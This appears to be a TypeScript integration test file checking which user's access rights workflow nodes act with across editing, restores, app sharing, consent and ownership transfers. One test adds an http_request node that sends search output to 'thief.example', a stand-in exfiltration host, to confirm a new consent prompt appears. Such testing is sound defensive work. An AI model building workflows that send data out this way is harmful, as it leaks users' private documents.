import {
  billedOf,
  makePerson,
  PATH,
  type Person,
  type Reached,
  reachedBy,
  reachingNodes,
  type Row,
  runBy,
  secretOf,
  type Trigger,
} from '../support/acting-matrix.js';
import { HttpClient } from '../support/http-client.js';
import { type MailServer, startMailServer } from '../support/mail-server.js';
import { OddServer } from '../support/mcp-odd-server.js';
import { LONG } from '../support/long.js';
import { hostPlatform } from '../support/hosted-platform.js';
import type { Platform } from '../support/platform.js';
import { ScriptedLlm } from '../support/scripted-llm.js';
import { until } from '../support/until.js';
import { addCollaborator, ask, startWorkflow } from '../support/workflow-api.js';

const TRIGGERS: Trigger[] = ['manual', 'schedule', 'webhook'];
/** All reach alike, as the first test shows; `npm test` asks the others by one, which is not that of their later runs. */
const byOne = (trigger: Trigger) => (LONG ? TRIGGERS : [trigger]);

/** Who reaches all that is theirs, as every sort of node of theirs does. */
const allOf = ({ marker }: Person): Reached => ({
  search: marker,
  file: marker,
  table: marker,
  mcp: marker,
  agent: marker,
  sub: marker,
  mail: marker,
  model: '',
});
/** The same nodes in other hands: what names a thing of somebody else finds nothing, and the rest is one's own. */
const onlyOwn = (person: Person): Reached => ({
  ...allOf(person),
  file: 'file_not_found',
  table: 'document_not_found',
  sub: 'workflow_not_found',
});
const nothing = (code: string): Reached =>
  Object.fromEntries(['search', 'file', 'table', 'mcp', 'agent', 'sub', 'mail', 'model'].map((kind) => [kind, code]));

describe('whose rights the nodes of a workflow use', () => {
  let platform: Platform;
  let mails: MailServer;
  let servers: OddServer;
  const llm = new ScriptedLlm();
  let people: Person[];
  let [owner, editor, receiver, heir]: Person[] = [];
  let workflow: string;

  beforeAll(async () => {
    [mails, servers] = await Promise.all([startMailServer(), OddServer.start(), llm.start()]);
    // The server says with whose secret it was called.
    servers.tools = [{ name: 'whoami', run: () => ({ content: [{ type: 'text', text: callerOf(servers, people) }] }) }];
    llm.answers(({ results }) =>
      results.length === 0 ? { calls: [{ name: 'list_documents', arguments: {} }] } : { text: 'Done.' },
    );
    platform = await hostPlatform(undefined, {
      ...llm.env,
      MCP_HOSTS: servers.host,
      MAIL_PROVIDER: 'smtp',
      MAIL_FROM: 'Atrium <no-reply@atrium.example>',
      SMTP_URL: mails.url,
      WORKFLOW_MAILS_PER_DAY: '100',
    });
    people = await Promise.all(
      ['anemone', 'bluebell', 'crocus', 'dahlia'].map(async (marker) =>
        makePerson(await HttpClient.signUp(platform.baseUrl), marker, servers),
      ),
    );
    [owner, editor, receiver, heir] = people;
    const nodes = reachingNodes('o', owner!);
    workflow = await startWorkflow(owner!.client, { name: 'Shared', nodes });
    await addCollaborator(platform, workflow, editor!.client, 'editor');
    // The editor adds the same nodes, and touches the owner's ones where that changes nothing of what they do.
    const touched = nodes.map((node) => ({ ...node, name: 'Renamed', position: { x: 1, y: 2 }, next: [] }));
    await save(editor!, workflow, [...touched, ...reachingNodes('e', owner!)]);
  });
  afterAll(async () => {
    await platform?.stop();
    await Promise.all([mails?.stop(), servers?.stop(), llm.stop()]);
  });

  const reached = (rows: ReadonlyMap<string, Row>, prefix: string) => reachedBy(platform, people, rows, prefix);

  it.each(TRIGGERS)('are those of who last changed each, when started by %s', async (trigger) => {
    const rows = await runBy(trigger, editor!.client, owner!.client, workflow);
    expect(await reached(rows, 'o')).toEqual(allOf(owner!));
    expect(await reached(rows, 'e')).toEqual(onlyOwn(editor!));
    // What was used is written a little later.
    await until(async () => (await billedOf(platform, people, workflow)).length > 1);
    expect(await billedOf(platform, people, workflow)).toEqual([owner!.marker, editor!.marker]);
    expect([actors(rows, 'o_'), actors(rows, 'e_')]).toEqual([
      new Set([owner!.client.username]),
      new Set([editor!.client.username]),
    ]);
  });

  it('are told by versions, and follow a restore to who restored', async () => {
    type Version = { nodes: { node_id: string; acts_as: { username: string } | null }[] };
    const of = async (revision: number) => {
      const { nodes } = await owner!.client.get<Version>(`${PATH}${workflow}/versions/${revision}/`);
      return Object.fromEntries(nodes.map(({ node_id: id, acts_as: actor }) => [id, actor?.username]));
    };
    expect(await of(1)).toMatchObject({ o_file: owner!.client.username });
    expect(await of(2)).toMatchObject({ o_file: owner!.client.username, e_file: editor!.client.username });
    const other = await startWorkflow(owner!.client, { name: 'R', nodes: [node('a', 'read_file', owner!.document)] });
    await addCollaborator(platform, other, editor!.client, 'editor');
    await save(owner!, other, [node('a', 'read_file', 'something else')]);
    // The editor brings the owner's old reach back: it is the editor's now.
    await editor!.client.post(`${PATH}${other}/versions/1/restore/`, {});
    const rows = await runBy('manual', owner!.client, owner!.client, other);
    expect(rows.get('a')).toMatchObject({
      error: { code: 'file_not_found' },
      acts_as: { username: editor!.client.username },
    });
  });

  it('do not reach further because somebody else’s node names the thing', async () => {
    const read = { id: 'read', kind: 'read_file', params: { file: '{{_output.name.text}}' } };
    const loop = {
      id: 'loop',
      kind: 'loop',
      params: {
        items: [{ $ref: '_output.name.text' }],
        body: { nodes: [{ id: 'r', kind: 'read_file', params: { file: '{{_item}}' } }] },
      },
    };
    const nodes = (text: string) => [
      { ...name(text), next: ['read', 'loop'] },
      { ...read, on_error: 'continue' },
      loop,
    ];
    const id = await startWorkflow(owner!.client, { name: 'Steered', nodes: nodes(owner!.document) });
    await addCollaborator(platform, id, editor!.client, 'editor');
    expect((await runBy('manual', owner!.client, owner!.client, id)).get('read')!.status).toBe('COMPLETED');
    for (const text of [owner!.document, editor!.document]) {
      await save(editor!, id, nodes(`${text} `));
      const rows = await runBy('manual', editor!.client, owner!.client, id);
      expect(rows.get('read')!.error!.code).toBe(text === owner!.document ? 'actor_cannot_reach' : 'file_not_found');
      expect(rows.get('loop')!.status).toBe('FAILED');
    }
    // Nor by an output of then, after the owner has set the node right.
    await save(editor!, id, nodes(owner!.document));
    await runBy('manual', editor!.client, owner!.client, id);
    await save(owner!, id, nodes('nothing'));
    for (const start_node_id of ['read', 'loop']) {
      await editor!.client.post(`${PATH}branch-rerun/`, { workflow_id: id, start_node_id });
      const isOver = async () =>
        ['FAILED', 'COMPLETED'].includes((await owner!.client.get<Row>(`${PATH}${id}/`)).status);
      await until(isOver);
      const again = (await owner!.client.get<Row[]>(`${PATH}${id}/nodes/`)).find(
        (row) => row.node_id === start_node_id,
      );
      expect(JSON.stringify(again!.error)).toContain('actor_cannot_reach');
    }

    // Both may read it, so both nodes may.
    await save(editor!, id, nodes(`${owner!.document}  `));
    await owner!.client.post(`${PATH}${id}/nodes/name/adopt/`, {});
    const adopted = await runBy('manual', editor!.client, owner!.client, id);
    expect([adopted.get('read')!.status, adopted.get('loop')!.status]).toEqual(['COMPLETED', 'COMPLETED']);
  });

  it('end with the access of who has them, until the owner adopts', async () => {
    const path = `${PATH}${workflow}/`;
    const adopt = (person: Person, id: string, body = {}) =>
      ask(person.client, 'POST', `${path}nodes/${id}/adopt/`, body);
    expect((await adopt(editor!, 'e_file')).status).toBe(403);
    expect((await adopt(heir!, 'e_file')).status).toBe(404);
    expect((await adopt(owner!, 'missing')).status).toBe(404);
    expect((await ask(owner!.client, 'DELETE', `${path}collaborators/${editor!.id}/`)).status).toBe(204);
    for (const trigger of byOne('schedule')) {
      const rows = await runBy(trigger, owner!.client, owner!.client, workflow);
      expect(await reached(rows, 'e')).toEqual(nothing('actor_lost_access'));
      expect(await reached(rows, 'o')).toEqual(allOf(owner!));
    }
    expect((await adopt(owner!, 'e_file')).body).toMatchObject({
      node_id: 'e_file',
      acts_as: { id: owner!.id, username: owner!.client.username },
    });
    const rows = await runBy('webhook', owner!.client, owner!.client, workflow);
    expect(await reached(rows, 'e')).toEqual({ ...nothing('actor_lost_access'), file: owner!.marker });
    const all = await ask(owner!.client, 'POST', `${path}adopt/`, {});
    expect(all.body['adopted']).toHaveLength(7);
    expect(await reached(await runBy('manual', owner!.client, owner!.client, workflow), 'e')).toEqual(allOf(owner!));
  });

  it('are asked for by an app once, and again when it wants more', async () => {
    const { client } = receiver!;
    await owner!.client.post(`${PATH}${workflow}/share/`, {
      emails: [`${client.username}@test.example`],
      only_view_in_apps: true,
    });
    const { results } = await client.get<{ results: { id: string }[] }>(`${PATH}?available_as_app=true`);
    const app = results[0]!.id;
    const start = () => ask(client, 'POST', `${PATH}rerun/`, { workflow_id: app });
    const needed = {
      code: 'consent_required',
      kinds: [
        'agent',
        'database_query',
        'list_documents',
        'mcp_tool',
        'read_file',
        'semantic_search',
        'send_email',
        'sub_workflow',
      ],
      hosts: [],
    };
    const refused = await start();
    expect(refused).toMatchObject({ status: 409, body: needed });
    expect(await ask(client, 'POST', '/workflow/run/stream/', { workflow_id: app })).toMatchObject({
      status: 409,
      body: needed,
    });
    const caller = await startWorkflow(client, {
      name: 'C',
      nodes: [{ id: 'sub', kind: 'sub_workflow', params: { workflow_id: app } }],
    });
    const called = (await runBy('manual', client, client, caller)).get('sub');
    expect(JSON.stringify(called!.error)).toContain('consent_required');
    // Neither schedules nor webhooks can be made for an app.
    expect(
      (
        await ask(client, 'POST', `${PATH}${app}/schedules/`, {
          name: 'x',
          kind: 'cron',
          cron: '0 9 * * *',
          timezone: 'UTC',
        })
      ).status,
    ).toBe(403);
    expect((await ask(client, 'GET', `${PATH}${app}/node-webhook/o_file/`)).status).toBe(403);

    expect(await client.get(`${PATH}${app}/`)).toMatchObject({ consent_required: true });
    const { revision } = refused.body;
    expect((await ask(editor!.client, 'POST', `${PATH}${app}/consent/`, { revision })).status).toBe(404);
    expect((await ask(client, 'POST', `${PATH}${app}/consent/`, { revision: 99 })).body).toMatchObject(needed);
    expect((await ask(client, 'POST', `${PATH}${app}/consent/`, { revision })).body).toMatchObject({
      required: false,
      may_run: true,
    });
    expect(await told(client, app)).toEqual(onlyOwn(receiver!));

    // A host more: the last one that was agreed to goes on.
    const http = {
      id: 'http',
      kind: 'http_request',
      params: { url: 'https://thief.example/{{_output.o_search.items}}' },
    };
    await save(owner!, workflow, [...reachingNodes('o', owner!), http]);
    expect(await told(client, app)).toEqual(onlyOwn(receiver!));
    expect((await client.get<Row[]>(`${PATH}${app}/nodes/`)).map(({ node_id: id }) => id)).toContain('e_file');
    const asked = await client.get<Record<string, unknown>>(`${PATH}${app}/consent/`);
    expect(asked).toMatchObject({
      required: true,
      may_run: true,
      hosts: ['thief.example'],
      running_revision: revision,
    });
    // Less than before needs no new word.
    await save(owner!, workflow, reachingNodes('o', owner!).slice(0, 2));
    expect(await start()).toMatchObject({ status: 200 });
    expect((await client.get<Row[]>(`${PATH}${app}/nodes/`)).map(({ node_id: id }) => id)).toEqual([
      'o_search',
      'o_file',
    ]);
  });

  /** What an app of the receiver's got to: its nodes hide their outputs unless they fail, so the rows are asked. */
  async function told(client: HttpClient, app: string): Promise<Reached> {
    await client.post(`${PATH}rerun/`, { workflow_id: app });
    const isOver = async () => ['COMPLETED', 'FAILED'].includes((await client.get<Row>(`${PATH}${app}/`)).status);
    await until(isOver, 60_000);
    const rows = await platform.database.dataSource.query<Row[]>(
      `SELECT n.node_id, n.status, n.output, n.error FROM workflow_run_nodes n JOIN workflows w ON w.current_run_id = n.run_id
       WHERE w.id = $1`,
      [app],
    );
    return reached(new Map(rows.map((row) => [row.node_id, row])), 'o');
  }

  it('stay with the former owner after a transfer that keeps people, and end with them', async () => {
    const id = await startWorkflow(owner!.client, { name: 'Moves', nodes: reachingNodes('o', owner!) });
    await owner!.client.post(`${PATH}${id}/transfer/`, { email: `${heir!.client.username}@test.example` });
    const [offer] = await heir!.client.get<{ id: string; nodes: { acts_as: { username: string } }[] }[]>(
      `${PATH}transfers/`,
    );
    expect(new Set(offer!.nodes.map((offered) => offered.acts_as.username))).toEqual(new Set([owner!.client.username]));
    await heir!.client.post(`${PATH}transfers/${offer!.id}/accept/`, { keep_people: true });
    for (const trigger of byOne('manual')) {
      const rows = await runBy(trigger, trigger === 'manual' ? owner!.client : heir!.client, heir!.client, id);
      expect(await reached(rows, 'o')).toEqual(allOf(owner!));
    }
    await ask(heir!.client, 'DELETE', `${PATH}${id}/collaborators/${owner!.id}/`);
    expect(await reached(await runBy('webhook', heir!.client, heir!.client, id), 'o')).toEqual(
      nothing('actor_lost_access'),
    );
    await heir!.client.post(`${PATH}${id}/adopt/`, {});
    expect(await reached(await runBy('webhook', heir!.client, heir!.client, id), 'o')).toEqual(onlyOwn(heir!));
  });

  it('are adopted with the transfer when its receiver says so, and wait in a copy for its receiver', async () => {
    const { client } = heir!;
    const harmless = { id: 'say', kind: 'template', params: { template: 'hello' } };
    const nodes = [harmless, ...reachingNodes('o', owner!).slice(0, 1)];
    const id = await startWorkflow(owner!.client, { name: 'Gift', nodes });
    await owner!.client.post(`${PATH}${id}/share/`, {
      emails: [`${client.username}@test.example`],
      only_view_in_apps: false,
    });
    const { results } = await client.get<{ results: { id: string; name: string }[] }>(PATH);
    const copy = results.find(({ name }) => name === 'Gift')!.id;
    const rows = await runBy('manual', client, client, copy);
    expect(rows.get('say')!.status).toBe('COMPLETED');
    expect(await reached(rows, 'o')).toEqual({ search: 'actor_lost_access' });
    await client.post(`${PATH}${copy}/nodes/o_search/adopt/`, {});
    expect(await reached(await runBy('manual', client, client, copy), 'o')).toEqual({ search: heir!.marker });
    await owner!.client.post(`${PATH}${id}/transfer/`, { email: `${client.username}@test.example` });
    const [offer] = await client.get<{ id: string }[]>(`${PATH}transfers/`);
    await client.post(`${PATH}transfers/${offer!.id}/accept/`, { adopt: 'all' });
    expect(await reached(await runBy('webhook', client, client, id), 'o')).toEqual({ search: heir!.marker });
  });
});

const node = (id: string, kind: string, file: string) => ({ id, kind, params: { file }, on_error: 'continue' });

/** The secret of the newest call; the tool says whose it is. */
function callerOf({ requests }: OddServer, people: readonly Person[]): string {
  const call = requests.findLast(({ body }) => body.includes('"tools/call"'));
  const token = String(call?.headers.authorization).replace('Bearer ', '');
  return people.find(({ marker }) => secretOf(marker) === token)?.marker ?? 'nobody';
}

const save = async ({ client }: Person, id: string, nodes: object[]) =>
  expect((await ask(client, 'PUT', `${PATH}${id}/`, { name: 'Shared', json_spec: { nodes } })).status).toBe(200);

const actors = (rows: ReadonlyMap<string, Row>, prefix: string) =>
  new Set([...rows.values()].filter(({ node_id: id }) => id.startsWith(prefix)).map((row) => row.acts_as?.username));

const name = (text: string) => ({ id: 'name', kind: 'template', params: { template: text } });
